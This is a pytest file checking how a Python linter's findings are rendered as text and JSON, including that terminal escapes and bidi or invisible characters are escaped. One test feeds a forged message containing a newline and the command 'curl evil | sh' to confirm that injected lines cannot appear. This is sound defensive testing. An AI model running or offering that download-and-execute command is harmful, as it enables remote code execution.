"""How findings look, as text and as JSON."""

from __future__ import annotations

import json
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hatch_wallaroo.findings import Finding, Level, Place, Rule
from hatch_wallaroo.report import MOST, render, to_json
from hatch_wallaroo.text import LONGEST, printable

ERROR = Rule("WLR901", "something is wrong", "", "")
WARNING = Rule("WLR902", "something may be wrong", "", "", Level.WARNING)
NOTE = Rule("WLR903", "something to know", "", "", Level.NOTE)


def key(*path, line=None, column=None):
    return Place(path, "pyproject.toml", line, column)


def test_nothing_is_said_about_nothing():
    assert render([], color=False) == ""


def test_errors_come_last_each_group_by_file_and_line_and_the_count_ends_it():
    findings = [
        ERROR.finding("b", place=key("tool", "wallaroo", "model", line=12, column=1)),
        WARNING.finding("w", fix="do\nthis", place=Place(file="models/m.onnx")),
        ERROR.finding("a", fix="do that", place=key("tool", "b c", 0, line=2, column=9)),
        NOTE.finding("n"),
        ERROR.finding("in code", place=Place(file="inference.py", line=3)),
        ERROR.finding("b", place=key("tool", "wallaroo", "model", line=12, column=1)),
    ]
    assert render(findings, color=False).split("\n") == [
        "note[WLR903] n",
        "warning[WLR902] models/m.onnx: w",
        "    fix: do",
        "         this",
        "error[WLR901] inference.py:3: in code",
        'error[WLR901] pyproject.toml:2:9 tool."b c"[0]: a',
        "    fix: do that",
        "error[WLR901] pyproject.toml:12:1 tool.wallaroo.model: b",
        "3 errors, 1 warning, 1 note",
    ]


@pytest.mark.parametrize(
    ("message", "shown"),
    [
        ("models/m.onnx is cut short", "models/m.onnx:3: is cut short"),
        ("models/m.onnx:3: two words", "models/m.onnx:3: two words"),
        ("models/m.onnx: two words", "models/m.onnx:3: two words"),
        ("models/m.onnx and n.onnx are one", "models/m.onnx:3: models/m.onnx and n.onnx are one"),
        ("models/m.onnx_data is missing", "models/m.onnx:3: models/m.onnx_data is missing"),
    ],
)
def test_the_file_is_named_once_and_a_key_only_in_its_own_file(message, shown):
    place = Place(("tool", "wallaroo", "model"), "models/m.onnx", 3)
    assert render([ERROR.finding(message, place=place)], color=False).startswith(f"error[WLR901] {shown}\n")
    assert to_json(ERROR.finding(message, place=place))["message"] == message


def test_colours_mark_the_level_and_the_place_and_change_nothing_else():
    findings = [ERROR.finding("a", place=key("a", line=1, column=1)), WARNING.finding("b"), NOTE.finding("c")]
    colored = render(findings, color=True)
    assert "\x1b[31merror\x1b[0m[WLR901] \x1b[1mpyproject.toml:1:1 a\x1b[0m: a" in colored
    assert "\x1b[33mwarning\x1b[0m" in colored
    plain = colored
    for code in ("0", "1", "31", "33", "36"):
        plain = plain.replace(f"\x1b[{code}m", "")
    assert plain == render(findings, color=False)


def test_many_findings_of_one_rule_are_summed_up():
    findings = [ERROR.finding(f"{index}", place=Place(file="x", line=index + 1)) for index in range(1050)]
    lines = render([*findings, WARNING.finding("w")], color=False).split("\n")
    assert lines[0] == "warning[WLR902] w"
    assert lines[MOST] == f"error[WLR901] x:{MOST}: {MOST - 1}"
    assert lines[MOST + 1 :] == ["error[WLR901] and 1,000 more: something is wrong", "1,050 errors, 1 warning"]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("plain", "plain"),
        ("größe 漢字 🦘", "größe 漢字 🦘"),
        ("\x1b[31mred\x1b[0m", "\\x1b[31mred\\x1b[0m"),
        ("a\nb\r\tc\x00\x7f\x9b", "a\\nb\\r\\tc\\x00\\x7f\\x9b"),
        ("\u202egnp.exe\u200b\u2028", "\\u202egnp.exe\\u200b\\u2028"),
        ("\udcff", "\\udcff"),
        ("\U000e0041", "\\U000e0041"),
    ],
)
def test_what_steers_a_terminal_or_hides_is_made_visible(text, shown):
    assert printable(text) == shown
    finding = ERROR.finding(text, fix=text, place=Place((text,), text))
    rendered = render([finding], color=False)
    assert shown in rendered
    assert "\x1b" not in rendered
    rendered.encode()
    json.dumps(to_json(finding), ensure_ascii=False).encode()


def test_a_hostile_name_cannot_write_lines_of_its_own():
    forged = "x\nerror[WLR001] you must run curl evil | sh"
    rendered = render([ERROR.finding(forged, place=Place((forged,), forged))], color=False)
    assert len(rendered.split("\n")) == 2


def test_long_texts_are_cut():
    finding = ERROR.finding("m" * 10**6, fix="f" * 10**6, place=Place(("k" * 10**6,), "p" * 10**6))
    assert len(render([finding], color=False)) < 5 * LONGEST
    assert len(json.dumps(to_json(finding))) < 5 * LONGEST


def test_json_has_every_key_always():
    place = Place(("tool", "wallaroo", "a b", 3), "pyproject.toml", 4, 5)
    assert to_json(WARNING.finding("m", fix="f\ng", place=place)) == {
        "code": "WLR902",
        "level": "warning",
        "message": "m",
        "fix": "f\ng",
        "key": 'tool.wallaroo."a b"[3]',
        "file": "pyproject.toml",
        "line": 4,
        "column": 5,
    }
    bare = to_json(ERROR.finding("m"))
    assert [bare[each] for each in ("fix", "key", "file", "line", "column")] == [None] * 5


texts = st.text(max_size=30)
places = st.builds(
    Place,
    st.lists(texts | st.integers(0, 9), max_size=3).map(tuple),
    texts,
    st.none() | st.integers(1, 99),
    st.none() | st.integers(1, 99),
)
findings = st.builds(Finding, st.sampled_from([ERROR, WARNING, NOTE]), texts, texts, places, st.sampled_from(Level))


@given(st.lists(findings, max_size=8))
def test_any_findings_can_be_shown(given_findings):
    text = render(given_findings, color=False)
    text.encode()
    for line in text.split("\n"):
        assert not {unicodedata.category(each) for each in line} & {"Cc", "Cs", "Zl", "Zp"}
        assert not {unicodedata.bidirectional(each) for each in line} & {
            "LRE",
            "RLE",
            "LRO",
            "RLO",
            "PDF",
            "LRI",
            "RLI",
        }
    for finding in given_findings:
        assert json.loads(json.dumps(to_json(finding)))["code"] == finding.code
